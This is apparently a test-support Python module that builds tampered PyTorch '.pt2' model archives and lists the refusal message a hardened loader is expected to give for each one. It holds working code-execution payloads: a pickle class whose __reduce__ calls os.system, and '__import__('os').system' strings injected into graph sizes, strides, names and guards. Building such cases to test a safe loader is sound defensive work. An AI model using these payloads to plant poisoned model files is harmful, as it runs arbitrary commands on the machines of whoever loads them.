"""``.pt2`` files as their records, and what an attacker does to them.

PyTorch's loader unpickles, evaluates and compiles what stands in a file; ``EXPLOITS`` has each way that was found.
"""

from __future__ import annotations

import copy
import io
import json
import os
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from support.models.exported import torch

PROGRAM = "models/model.json"
WEIGHTS = "data/weights/model_weights_config.json"
CONSTANTS = "data/constants/model_constants_config.json"
SAMPLES = "data/sample_inputs/model.pt"

Records = dict[str, bytes]


class Command:
    """What runs a command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self.command,)


def read_records(path: Path) -> Records:
    """By their names below the folder that holds them."""
    with zipfile.ZipFile(path) as archive:
        return {name.partition("/")[2]: archive.read(name) for name in archive.namelist()}


def write_records(path: Path, records: Records, root: str = "model/") -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in records.items():
            archive.writestr(zipfile.ZipInfo(root + name), data)
    return path


def pickled(value: Any) -> bytes:
    stream = io.BytesIO()
    torch.save(value, stream)
    return stream.getvalue()


def changed(record: bytes, change: Callable[[Any], Any]) -> bytes:
    """JSON that ``change`` writes to."""
    document = json.loads(record)
    change(document)
    return json.dumps(document).encode()


def graph_of(document: Any) -> Any:
    return document["graph_module"]["graph"]


def renamed(value: Any, old: str, new: str) -> Any:
    """Everywhere, keys and values."""
    if isinstance(value, dict):
        return {(new if key == old else key): renamed(entry, old, new) for key, entry in value.items()}
    if isinstance(value, list):
        return [renamed(entry, old, new) for entry in value]
    return new if value == old else value


def _python(command: str) -> str:
    return f"__import__('os').system({command!r})"


def _symbolic(command: str) -> dict[str, Any]:
    return {"as_expr": {"expr_str": _python(command), "hint": None}}


def legacy_constants(records: Records, command: str) -> None:
    records["data/constants/model.pt"] = pickled(Command(command))


def legacy_weights(records: Records, command: str) -> None:
    records["data/weights/model.pt"] = pickled(Command(command))


def second_model(records: Records, command: str) -> None:
    entry = {"path_name": "evil", "is_param": False, "use_pickle": True, "tensor_meta": None}
    records["models/zz.json"] = records[PROGRAM]
    records["data/sample_inputs/zz.pt"] = records[SAMPLES]
    records["data/constants/zz_constants_config.json"] = b'{"config": {}}'
    records["data/weights/zz_weights_config.json"] = json.dumps({"config": {"w": entry}}).encode()
    records["data/weights/evil"] = pickled(Command(command))


def pickled_weight(records: Records, command: str) -> None:
    def change(document: Any) -> None:
        next(iter(document["config"].values())).update(use_pickle=True, path_name="weight_0")

    records[WEIGHTS] = changed(records[WEIGHTS], change)
    records["data/weights/weight_0"] = pickled(Command(command))


def opaque_constant(records: Records, command: str) -> None:
    entry = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}
    records[CONSTANTS] = json.dumps({"config": {"c": entry}}).encode()
    records["data/constants/opaque_obj_0"] = pickle.dumps(Command(command))


def sample_inputs(records: Records, command: str) -> None:
    records[SAMPLES] = pickled(Command(command))


def size(records: Records, command: str) -> None:
    def change(document: Any) -> None:
        graph_of(document)["tensor_values"]["linear"]["sizes"][0] = _symbolic(command)

    records[PROGRAM] = changed(records[PROGRAM], change)


def stride(records: Records, command: str) -> None:
    def change(document: Any) -> None:
        graph_of(document)["tensor_values"]["linear"]["strides"][0] = _symbolic(command)

    records[PROGRAM] = changed(records[PROGRAM], change)


def number(records: Records, command: str) -> None:
    def change(document: Any) -> None:
        argument = {"as_sym_int": {"as_name": "n"}}
        graph_of(document)["sym_int_values"]["n"] = _symbolic(command)
        graph_of(document)["inputs"].append(argument)
        document["graph_module"]["signature"]["input_specs"].append({"user_input": {"arg": argument}})

    records[PROGRAM] = changed(records[PROGRAM], change)


def input_name(records: Records, command: str) -> None:
    document = renamed(json.loads(records[PROGRAM]), "x_0", f"x={_python(command)}")
    records[PROGRAM] = json.dumps(document).encode()


def operator_name(records: Records, command: str) -> None:
    document = renamed(json.loads(records[PROGRAM]), "relu_", f"relu={_python(command)}#")
    records[PROGRAM] = json.dumps(document).encode()


def guard(records: Records, command: str) -> None:
    records[PROGRAM] = changed(records[PROGRAM], lambda document: document.update(guards_code=[_python(command)]))


EXPLOITS: dict[str, tuple[Callable[[Records, str], None], str]] = {
    "legacy constants": (legacy_constants, "its record data/constants/model.pt is not one of an exported program"),
    "legacy weights": (legacy_weights, "its record data/weights/model.pt is not one of an exported program"),
    "second model": (second_model, "its record models/zz.json is not one of an exported program of plain tensors"),
    "pickled weight": (pickled_weight, 'weight "parts.0.weight" is pickled, which can hold any code and is not loaded'),
    "opaque constant": (opaque_constant, "its record data/constants/opaque_obj_0 is not one of an exported program"),
    "size": (size, "cannot be read: its graph: tensor 'linear': size 0 \"__import__('os').system("),
    "stride": (stride, "cannot be read: its graph: tensor 'linear': stride 0 \"__import__('os').system("),
    "number": (number, "cannot be read: its graph: number 'n' \"__import__('os').system("),
    "input's name": (input_name, "cannot be read: its graph \"x=__import__('os').system("),
    "operator's name": (operator_name, "cannot be read: its graph: operator 1 \"relu=__import__('os').system("),
    "guard": (guard, "cannot be read: its condition \"__import__('os').system("),
    "sample inputs": (sample_inputs, ""),
}
"""What is done to a file, and how its refusal begins; empty where what would run is never read."""


def inserted(document: Any, target: str, *arguments: Any, like: str = "linear", name: str = "made") -> None:
    """One more operator before all others, and its result declared like another's."""
    graph = graph_of(document)
    inputs = [{"name": key, "arg": value, "kind": 1} for key, value in arguments]
    result = [{"as_tensor": {"name": name}}]
    graph["nodes"].insert(0, {"target": target, "inputs": inputs, "outputs": result, "metadata": {}, "name": name})
    graph["tensor_values"][name] = copy.deepcopy(graph["tensor_values"][like])
